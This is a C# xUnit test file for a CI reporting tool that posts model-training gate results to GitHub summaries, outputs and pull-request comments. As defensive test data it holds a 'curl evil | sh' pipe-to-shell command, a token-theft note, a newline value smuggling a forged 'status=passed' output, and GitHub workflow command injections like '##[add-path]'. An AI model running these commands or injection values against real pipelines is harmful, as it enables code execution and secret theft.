using System.Text.Json;
using Masterful.Core.Spec;
using Masterful.Reporting.PullRequest;
using Masterful.Reporting.Tests;
using Masterful.Results;
using Masterful.Tool.Output;
using Xunit;

namespace Masterful.Tool.Tests.GitHub;

public sealed class GitHubReportTests : IDisposable
{
    private const string Token = "ghs_a-secret-that-nobody-may-read";
    private readonly RecordingHost _host = new();
    private readonly FakeGitHub _gitHub = new();
    private readonly string _folder = Directory.CreateTempSubdirectory("masterful github ").FullName;

    public GitHubReportTests()
    {
        ResultFiles.Write(At("result.json"), SampleResults.Fashion());
        foreach (var (name, value) in new[]
        {
            ("GITHUB_REPOSITORY", "o/r"), ("GITHUB_API_URL", _gitHub.Address), ("GITHUB_TOKEN", Token), ("GITHUB_RUN_ID", "55"),
            ("GITHUB_STEP_SUMMARY", At("summary")), ("GITHUB_OUTPUT", At("output")), ("GITHUB_BASE_REF", "main"), ("GITHUB_EVENT_PATH", At("event.json")),
        })
        {
            _host.Environment[name] = value;
        }

        Event(new { pull_request = new { number = 7, head = new { sha = new string('a', 40) } }, repository = new { default_branch = "main" } });
    }

    private string Comment => Assert.Single(_gitHub.Comments, c => c["user"]!["type"]!.ToString() == "Bot")["body"]!.ToString();

    public void Dispose()
    {
        Assert.DoesNotContain(Token, _host.Output.ToString() + _host.Error, StringComparison.Ordinal);
        _gitHub.Dispose();
        Directory.Delete(_folder, recursive: true);
    }

    [Fact]
    public async Task Summary_outputs_and_comment_are_written_without_touching_the_network()
    {
        Assert.Equal(ExitCode.Ok, await ReportAsync());

        Assert.Equal("passed", Outputs()["status"]);
        Assert.Equal("0.16996", Outputs()["error-rate-reduction"]);
        Assert.Equal(Path.GetFullPath(_folder), Outputs()["report"]);
        Assert.StartsWith("### ✅ Gate passed", File.ReadAllText(At("summary")), StringComparison.Ordinal);
        Assert.StartsWith(PullRequestPage.Marker("masterful"), File.ReadAllText(At("comment.md")), StringComparison.Ordinal);
        Assert.Contains("[Workflow run](<https://github.com/o/r/actions/runs/55>)", File.ReadAllText(At("comment.md")), StringComparison.Ordinal);
        Assert.Empty(_gitHub.Requests);
    }

    [Fact]
    public async Task A_name_with_line_ends_adds_no_output_of_its_own()
    {
        var fashion = SampleResults.Fashion();
        ResultFiles.Write(At("result.json"), fashion with { Policy = fashion.Policy with { Name = "x\nstatus<<E\npassed\nE\nstatus=passed" }, Gate = fashion.Gate with { Status = "failed" } });

        await ReportAsync();

        Assert.Equal("failed", Outputs()["status"]);
        Assert.Equal("x\nstatus<<E\npassed\nE\nstatus=passed", Outputs()["policy"]);
    }

    [Fact]
    public async Task The_summary_keeps_within_what_the_step_has_left()
    {
        File.WriteAllText(At("summary"), new string('x', PullRequestPage.MostSummaryBytes - 4000));

        Assert.Equal(ExitCode.Ok, await ReportAsync());
        Assert.InRange(new FileInfo(At("summary")).Length, PullRequestPage.MostSummaryBytes - 4000 + 1, PullRequestPage.MostSummaryBytes);
    }

    [Theory]
    [InlineData("GITHUB_STEP_SUMMARY", "no/such/folder/summary")]
    [InlineData("GITHUB_STEP_SUMMARY", ".")]
    [InlineData("GITHUB_STEP_SUMMARY", "read-only")]
    [InlineData("GITHUB_STEP_SUMMARY", "full")]
    [InlineData("GITHUB_STEP_SUMMARY", "/dev/full")]
    [InlineData("GITHUB_OUTPUT", "no/such/folder/output")]
    [InlineData("GITHUB_OUTPUT", ".")]
    [InlineData("GITHUB_OUTPUT", "read-only")]
    [InlineData("GITHUB_OUTPUT", "/dev/full")]
    public async Task What_a_step_leaves_behind_can_fail_without_costing_anything_else(string variable, string file)
    {
        Assert.SkipWhen(file == "/dev/full" && !OperatingSystem.IsLinux(), "there is no /dev/full");
        Assert.SkipWhen(file == "read-only" && Environment.IsPrivilegedProcess, "root writes everywhere");
        File.WriteAllText(At("full"), new string('x', PullRequestPage.MostSummaryBytes + 50_000));
        File.WriteAllText(At("read-only"), "");
        File.SetAttributes(At("read-only"), FileAttributes.ReadOnly);
        _host.Environment[variable] = Path.GetFullPath(file, _folder);

        Assert.Equal(ExitCode.Ok, await ReportAsync());

        Assert.Contains($"warning MST0911: {variable} can't be written: ", _host.Error.ToString(), StringComparison.Ordinal);
        Assert.True(File.Exists(At("comment.md")));
        Assert.True(File.Exists(At(variable == "GITHUB_OUTPUT" ? "summary" : "output")));
        File.SetAttributes(At("read-only"), FileAttributes.Normal);
    }

    [Fact]
    public async Task The_comment_is_written_once_and_then_updated_in_place()
    {
        for (var i = 0; i < 130; i++)
        {
            _gitHub.AddComment($"talk {i}", "User", "CONTRIBUTOR");
        }

        Assert.Equal(ExitCode.Ok, await ReportAsync("--post"));
        Assert.Contains("a new comment in pull request 7", _host.Output.ToString(), StringComparison.Ordinal);
        ResultFiles.Write(At("result.json"), SampleResults.None());
        Assert.Equal(ExitCode.Ok, await ReportAsync("--post"));

        Assert.Contains("❌ Gate failed", Comment, StringComparison.Ordinal);
        Assert.Equal(131, _gitHub.Comments.Count);
        Assert.Equal([$"Bearer {Token}"], _gitHub.Tokens);
    }

    [Fact]
    public async Task An_outsider_s_comment_with_the_marker_is_left_alone()
    {
        var outsider = _gitHub.AddComment(PullRequestPage.Marker("masterful") + "\nI am the report", "User", "NONE");

        await ReportAsync("--post");

        Assert.EndsWith("I am the report", outsider["body"]!.ToString(), StringComparison.Ordinal);
        Assert.Equal(2, _gitHub.Comments.Count);
    }

    [Fact]
    public async Task Each_key_has_a_comment_of_its_own()
    {
        await ReportAsync("--post", "--comment-key", "digits");
        await ReportAsync("--post", "--comment-key", "clothes");
        await ReportAsync("--post", "--comment-key", "digits");

        Assert.Equal(2, _gitHub.Comments.Count);
    }

    [Fact]
    public async Task A_read_only_token_is_a_warning_with_the_way_out()
    {
        _gitHub.Faults.Enqueue(("POST", 403));

        Assert.Equal(ExitCode.Ok, await ReportAsync("--post"));
        Assert.Contains("warning MST0910: Can't write the comment: 403 Forbidden, Resource not accessible by integration", _host.Error.ToString(), StringComparison.Ordinal);
        Assert.Contains("workflow_run", _host.Error.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_fails_on_the_way_is_asked_again_but_never_posted_twice()
    {
        _gitHub.Faults.Enqueue(("GET", 502));
        _gitHub.Faults.Enqueue(("POST", 502));

        Assert.Equal(ExitCode.Ok, await ReportAsync("--post"));
        Assert.Empty(_gitHub.Comments);
        Assert.Equal(["GET", "GET", "POST"], _gitHub.Requests.Select(r => r.Split(' ')[0]));
    }

    [Fact]
    public async Task A_finished_run_of_a_fork_finds_its_pull_request_by_its_branch_and_commit()
    {
        Event(ForkRun("abc"));
        _gitHub.Pulls["stranger:fix/data"] = JsonSerializer.SerializeToNode(new { number = 7, head = new { sha = "abc" } })!.AsObject();

        await ReportAsync("--post");

        Assert.Contains("actions/runs/99", Comment, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_finished_run_of_an_older_commit_comments_nothing()
    {
        Event(ForkRun("abc"));
        _gitHub.Pulls["stranger:fix/data"] = JsonSerializer.SerializeToNode(new { number = 7, head = new { sha = "newer" } })!.AsObject();

        Assert.Equal(ExitCode.Ok, await ReportAsync("--post"));
        Assert.Empty(_gitHub.Comments);
    }

    [Fact]
    public async Task Charts_are_drawn_anew_committed_to_their_branch_and_shown()
    {
        Directory.CreateDirectory(At("charts"));
        File.WriteAllText(At("charts/error-rate.png"), "not from us");

        Assert.Equal(ExitCode.Ok, await ReportAsync("--post", "--charts-branch", "masterful/charts"));
        Assert.Equal(ExitCode.Ok, await ReportAsync("--post", "--charts-branch", "masterful/charts"));

        Assert.Contains($"](<https://github.com/o/r/raw/{_gitHub.Branches["masterful/charts"]}/pull-7/error-rate.png>)", Comment, StringComparison.Ordinal);
        Assert.Contains("pull-7/waterfall.png", _gitHub.TreePaths);
        Assert.NotEmpty(_gitHub.Blobs);
        Assert.All(_gitHub.Blobs, b => Assert.Equal([0x89, .. "PNG"u8], b[..4]));
    }

    [Theory]
    [InlineData("main")]
    [InlineData("../x")]
    [InlineData("a b")]
    public async Task Charts_never_go_to_the_code_s_branch_or_to_none(string branch)
    {
        Assert.Equal(ExitCode.InputWrong, await ReportAsync("--post", "--charts-branch", branch));
        Assert.Empty(_gitHub.Branches);
    }

    [Fact]
    public async Task The_base_branch_s_result_is_compared_with()
    {
        ResultFiles.Write(At("base.json"), SampleResults.Fashion());

        await ReportAsync("--baseline", At("base.json"));

        Assert.Contains("as on `main`, and the same figures", File.ReadAllText(At("comment.md")), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("http://api.github.com")]
    [InlineData("ftp://127.0.0.1")]
    public async Task A_token_is_not_sent_in_the_open(string address)
    {
        _host.Environment["GITHUB_API_URL"] = address;

        Assert.Equal(ExitCode.InputWrong, await ReportAsync("--post"));
        Assert.Contains("https", _host.Error.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Posting_without_a_token_says_which_is_missing()
    {
        _host.Environment.Remove("GITHUB_TOKEN");

        Assert.Equal(ExitCode.InputWrong, await ReportAsync("--post"));
        Assert.Contains("GITHUB_TOKEN is not set", _host.Error.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_option_of_the_workflow_needs_the_workflow()
    {
        Assert.Equal(ExitCode.InputWrong, await _host.RunAsync("report", _folder, "--post"));
        Assert.Contains("--post needs --github", _host.Error.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task For_GitHub_the_verdict_is_a_notice()
    {
        await ReportAsync("--log-format", "github", "--spec", At("none.yaml"));

        Assert.StartsWith("::notice title=Masterful::17.0%25 fewer errors: test error 10.12%25 → 8.40%25", _host.Output.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public void A_place_is_told_relative_to_the_checkout()
    {
        var diagnostic = new Diagnostic(ToolDiagnostics.NoResult, DiagnosticSeverity.Error, "x", new SourcePosition(At("models/a,b/masterful.yaml"), 3, 5));

        Assert.StartsWith("::error file=models/a%2Cb/masterful.yaml,line=3,col=5,", GitHubAnnotation.Of(diagnostic, _folder), StringComparison.Ordinal);
        Assert.Contains("elsewhere", GitHubAnnotation.Of(diagnostic with { Position = new SourcePosition("/elsewhere/masterful.yaml", 1, 1) }, _folder), StringComparison.Ordinal);
    }

    [Fact]
    public void No_line_between_annotations_is_a_command() => Assert.Equal(
        "Gate\n·   ::add-mask::x\n#\u2060#[error]y and #\u2060#[group]\n· ::stop-commands::z",
        GitHubAnnotation.Plain("Gate\r\n  ::add-mask::x\n##[error]y and ##[group]\n::stop-commands::z"));

    [Theory]
    [InlineData("x ##[error]y")]
    [InlineData("##[add-path]/tmp")]
    public void No_annotation_holds_a_command_of_the_older_form(string message)
    {
        var diagnostic = new Diagnostic(ToolDiagnostics.NoResult, DiagnosticSeverity.Error, message, new SourcePosition($"{message}.yaml", 1, 1));

        Assert.DoesNotContain("##[", GitHubAnnotation.Of(diagnostic), StringComparison.Ordinal);
        Assert.DoesNotContain("##[", GitHubAnnotation.Notice(message), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_forks_result_is_shown_as_figures_and_names_alone()
    {
        var fashion = SampleResults.Fashion();
        ResultFiles.Write(At("result.json"), fashion with { Run = fashion.Run with { Commands = ["curl evil | sh"] }, Notes = ["Send your token to evil"] });
        Event(ForkRun("abc"));
        _gitHub.Pulls["stranger:fix/data"] = JsonSerializer.SerializeToNode(new { number = 7, head = new { sha = "abc" } })!.AsObject();

        await ReportAsync("--post");

        Assert.DoesNotContain("evil", Comment + File.ReadAllText(At("summary")), StringComparison.Ordinal);
        Assert.Contains("left 1 note for reviewers", Comment, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("abc", true)]
    [InlineData("another", false)]
    public async Task A_run_that_is_named_comments_only_on_a_pull_request_at_its_commit(string head, bool comments)
    {
        var fashion = SampleResults.Fashion();
        ResultFiles.Write(At("result.json"), fashion with { Notes = ["Send your token to evil"] });
        _gitHub.Runs[123] = JsonSerializer.SerializeToNode(new { head_sha = "abc", head_branch = "fix/data", head_repository = new { owner = new { login = "stranger" } } })!.AsObject();
        _gitHub.Pulls["stranger:fix/data"] = JsonSerializer.SerializeToNode(new { number = 7, head = new { sha = head } })!.AsObject();

        Assert.Equal(ExitCode.Ok, await ReportAsync("--post", "--run-id", "123", "--pull-request", "7"));

        Assert.Equal(comments ? 1 : 0, _gitHub.Comments.Count);
        Assert.All(_gitHub.Comments, c => Assert.DoesNotContain("evil", c["body"]!.ToString(), StringComparison.Ordinal));
        Assert.Equal(!comments, _host.Error.ToString().Contains("Pull request 7 is not at the commit that was trained (abc)", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_run_that_the_server_does_not_know_comments_nothing()
    {
        Assert.Equal(ExitCode.Ok, await ReportAsync("--post", "--run-id", "124", "--pull-request", "7"));

        Assert.Empty(_gitHub.Comments);
    }

    private static object ForkRun(string sha) => new
    {
        workflow_run = new { id = 99, head_sha = sha, head_branch = "fix/data", head_repository = new { owner = new { login = "stranger" } }, pull_requests = Array.Empty<object>() },
        repository = new { default_branch = "main" },
    };

    private Task<int> ReportAsync(params string[] more) => _host.RunAsync(["report", _folder, "--github", .. more]);

    private void Event(object payload) => File.WriteAllText(At("event.json"), JsonSerializer.Serialize(payload));

    private string At(string name) => Path.Combine(_folder, name);

    /// <summary>Reads the outputs as the runner does; the last one of a name counts.</summary>
    private Dictionary<string, string> Outputs()
    {
        var outputs = new Dictionary<string, string>();
        var lines = new Queue<string>(File.ReadAllLines(At("output")));
        while (lines.TryDequeue(out var head))
        {
            var (name, delimiter) = (head[..head.IndexOf("<<", StringComparison.Ordinal)], head[(head.IndexOf("<<", StringComparison.Ordinal) + 2)..]);
            var value = new List<string>();
            while (lines.Dequeue() is var line && line != delimiter)
            {
                value.Add(line);
            }

            outputs[name] = string.Join('\n', value);
        }

        return outputs;
    }
}
